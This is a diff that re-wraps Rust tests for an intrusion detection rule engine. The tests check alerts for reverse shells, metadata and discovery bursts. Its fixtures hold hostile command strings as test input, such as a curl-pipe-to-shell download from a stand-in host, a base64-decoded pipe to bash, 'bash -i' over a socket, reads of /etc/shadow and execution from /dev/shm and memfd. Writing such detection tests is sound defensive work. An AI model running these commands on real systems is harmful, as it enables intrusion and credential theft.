@@ -18,14 +18,30 @@ const CONNECT_THEN_SHELL: &str = "Connect Then Shell on the Socket by the Same P
 fn every_builtin_rule_has_sigmahq_metadata() {
     let set = RuleSet::builtin();
     for meta in &set.meta {
-        assert!(!meta.id.is_empty() && meta.id != meta.title, "{} has no id", meta.title);
+        assert!(
+            !meta.id.is_empty() && meta.id != meta.title,
+            "{} has no id",
+            meta.title
+        );
         assert!(meta.author.is_some(), "{} has no author", meta.title);
         assert!(meta.level.is_some(), "{} has no level", meta.title);
-        assert!(meta.description.is_some(), "{} has no description", meta.title);
+        assert!(
+            meta.description.is_some(),
+            "{} has no description",
+            meta.title
+        );
         // Building blocks (informational) may omit ATT&CK tags; alerting rules may not.
         if meta.level.as_deref() != Some("informational") {
-            assert!(meta.tags.iter().any(|t| t.starts_with("attack.t")), "{} untagged", meta.title);
-            assert!(!meta.references.is_empty(), "{} has no references", meta.title);
+            assert!(
+                meta.tags.iter().any(|t| t.starts_with("attack.t")),
+                "{} untagged",
+                meta.title
+            );
+            assert!(
+                !meta.references.is_empty(),
+                "{} has no references",
+                meta.title
+            );
         }
     }
 }
@@ -35,7 +51,14 @@ fn reverse_shell_connect_then_socket_shell_within_10s() {
     let mut engine = builtin();
     let socket = json!({"sensor": {"stdio": {"stdin": "socket", "stdout": "socket"}}});
     let events = [
-        net(0.0, 4242, "/usr/bin/bash", true, ("198.51.100.7", 4444), json!({})),
+        net(
+            0.0,
+            4242,
+            "/usr/bin/bash",
+            true,
+            ("198.51.100.7", 4444),
+            json!({}),
+        ),
         exec(3.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
     ];
     let alerts = run(&mut engine, &events);
@@ -46,8 +69,13 @@ fn reverse_shell_connect_then_socket_shell_within_10s() {
     assert_eq!(corr["sigma"]["level"], "critical");
     assert_eq!(corr["threat"]["framework"], "MITRE ATT&CK");
     assert_eq!(corr["threat"]["technique"][0]["id"], "T1059.004");
-    let evidence = corr["sensor"]["correlation"]["events"].as_array().expect("events");
-    let actions: Vec<&str> = evidence.iter().filter_map(|e| e["event"]["action"].as_str()).collect();
+    let evidence = corr["sensor"]["correlation"]["events"]
+        .as_array()
+        .expect("events");
+    let actions: Vec<&str> = evidence
+        .iter()
+        .filter_map(|e| e["event"]["action"].as_str())
+        .collect();
     assert_eq!(actions, ["connect", "exec"], "contributing events in order");
     assert_eq!(corr["process"]["pid"], 4242);
 }
@@ -57,24 +85,54 @@ fn reverse_shell_correlation_needs_order_window_and_same_process() {
     let socket = json!({"sensor": {"stdio": {"stdin": "socket"}}});
     // Exec before connect: only the single-event rule.
     let mut engine = builtin();
-    let alerts = run(&mut engine, &[
-        exec(0.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
-        net(1.0, 4242, "/usr/bin/bash", true, ("198.51.100.7", 4444), json!({})),
-    ]);
+    let alerts = run(
+        &mut engine,
+        &[
+            exec(0.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
+            net(
+                1.0,
+                4242,
+                "/usr/bin/bash",
+                true,
+                ("198.51.100.7", 4444),
+                json!({}),
+            ),
+        ],
+    );
     assert_eq!(titles(&alerts), [SOCKET_STDIO]);
     // Too late (11 s).
     let mut engine = builtin();
-    let alerts = run(&mut engine, &[
-        net(0.0, 4242, "/usr/bin/bash", true, ("198.51.100.7", 4444), json!({})),
-        exec(11.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
-    ]);
+    let alerts = run(
+        &mut engine,
+        &[
+            net(
+                0.0,
+                4242,
+                "/usr/bin/bash",
+                true,
+                ("198.51.100.7", 4444),
+                json!({}),
+            ),
+            exec(11.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
+        ],
+    );
     assert_eq!(titles(&alerts), [SOCKET_STDIO]);
     // Another process.
     let mut engine = builtin();
-    let alerts = run(&mut engine, &[
-        net(0.0, 4242, "/usr/bin/bash", true, ("198.51.100.7", 4444), json!({})),
-        exec(1.0, 4243, "/usr/bin/bash", "bash -i", socket),
-    ]);
+    let alerts = run(
+        &mut engine,
+        &[
+            net(
+                0.0,
+                4242,
+                "/usr/bin/bash",
+                true,
+                ("198.51.100.7", 4444),
+                json!({}),
+            ),
+            exec(1.0, 4243, "/usr/bin/bash", "bash -i", socket),
+        ],
+    );
     assert_eq!(titles(&alerts), [SOCKET_STDIO]);
 }
 
@@ -82,24 +140,57 @@ fn reverse_shell_correlation_needs_order_window_and_same_process() {
 fn shell_with_tty_stdio_is_not_a_reverse_shell() {
     let mut engine = builtin();
     let tty = json!({"sensor": {"stdio": {"stdin": "tty", "stdout": "tty"}}});
-    let alerts = run(&mut engine, &[exec(0.0, 1, "/usr/bin/bash", "bash -i", tty)]);
+    let alerts = run(
+        &mut engine,
+        &[exec(0.0, 1, "/usr/bin/bash", "bash -i", tty)],
+    );
     assert!(alerts.is_empty(), "{alerts:?}");
 }
 
 #[test]
 fn curl_pipe_shell_and_shadow_read_and_dev_shm() {
     let mut engine = builtin();
-    let alerts = run(&mut engine, &[
-        exec(0.0, 10, "/usr/bin/dash", "sh -c curl -fsSL http://198.51.100.7/i.sh | sh", json!({})),
-        exec(1.0, 11, "/usr/bin/bash", "bash -c echo aWQK | base64 -d | bash", json!({})),
-        exec(2.0, 12, "/usr/bin/bash", "bash -c curl -o /tmp/x http://198.51.100.7/x", json!({})),
-        open(3.0, 13, "/usr/bin/cat", "/etc/shadow", false),
-        open(4.0, 14, "/usr/sbin/sshd", "/etc/shadow", false),
-        open(5.0, 15, "/usr/bin/vi", "/etc/shadow", true),
-        exec(6.0, 16, "/dev/shm/.x/kworker", "kworker", json!({})),
-        exec(7.0, 17, "/memfd:x (deleted)", "x", json!({"sensor": {"exec": {"memfd": true}}})),
-    ]);
-    let pids: Vec<i64> = alerts.iter().filter_map(|a| a["process"]["pid"].as_i64()).collect();
+    let alerts = run(
+        &mut engine,
+        &[
+            exec(
+                0.0,
+                10,
+                "/usr/bin/dash",
+                "sh -c curl -fsSL http://198.51.100.7/i.sh | sh",
+                json!({}),
+            ),
+            exec(
+                1.0,
+                11,
+                "/usr/bin/bash",
+                "bash -c echo aWQK | base64 -d | bash",
+                json!({}),
+            ),
+            exec(
+                2.0,
+                12,
+                "/usr/bin/bash",
+                "bash -c curl -o /tmp/x http://198.51.100.7/x",
+                json!({}),
+            ),
+            open(3.0, 13, "/usr/bin/cat", "/etc/shadow", false),
+            open(4.0, 14, "/usr/sbin/sshd", "/etc/shadow", false),
+            open(5.0, 15, "/usr/bin/vi", "/etc/shadow", true),
+            exec(6.0, 16, "/dev/shm/.x/kworker", "kworker", json!({})),
+            exec(
+                7.0,
+                17,
+                "/memfd:x (deleted)",
+                "x",
+                json!({"sensor": {"exec": {"memfd": true}}}),
+            ),
+        ],
+    );
+    let pids: Vec<i64> = alerts
+        .iter()
+        .filter_map(|a| a["process"]["pid"].as_i64())
+        .collect();
     assert_eq!(pids, [10, 11, 13, 16, 17], "{:?}", titles(&alerts));
 }
 
@@ -113,11 +204,28 @@ fn discovery_burst_counts_distinct_programs_per_parent() {
         events.push(exec(f64::from(i), 20 + i, "/usr/bin/id", "id", parent(7)));
     }
     // Four different programs under parent 8 within 60 s are.
-    for (i, exe) in ["/usr/bin/whoami", "/usr/bin/uname", "/usr/bin/id", "/usr/sbin/ip"].iter().enumerate() {
-        events.push(exec(10.0 + i as f64 * 10.0, 30 + i as u32, exe, "x", parent(8)));
+    for (i, exe) in [
+        "/usr/bin/whoami",
+        "/usr/bin/uname",
+        "/usr/bin/id",
+        "/usr/sbin/ip",
+    ]
+    .iter()
+    .enumerate()
+    {
+        events.push(exec(
+            10.0 + i as f64 * 10.0,
+            30 + i as u32,
+            exe,
+            "x",
+            parent(8),
+        ));
     }
     let alerts = run(&mut engine, &events);
-    assert_eq!(titles(&alerts), ["Burst of Discovery Commands Under One Parent"]);
+    assert_eq!(
+        titles(&alerts),
+        ["Burst of Discovery Commands Under One Parent"]
+    );
     assert_eq!(alerts[0]["sensor"]["correlation"]["value"], 4.0);
     assert_eq!(alerts[0]["process"]["pid"], 33);
 }
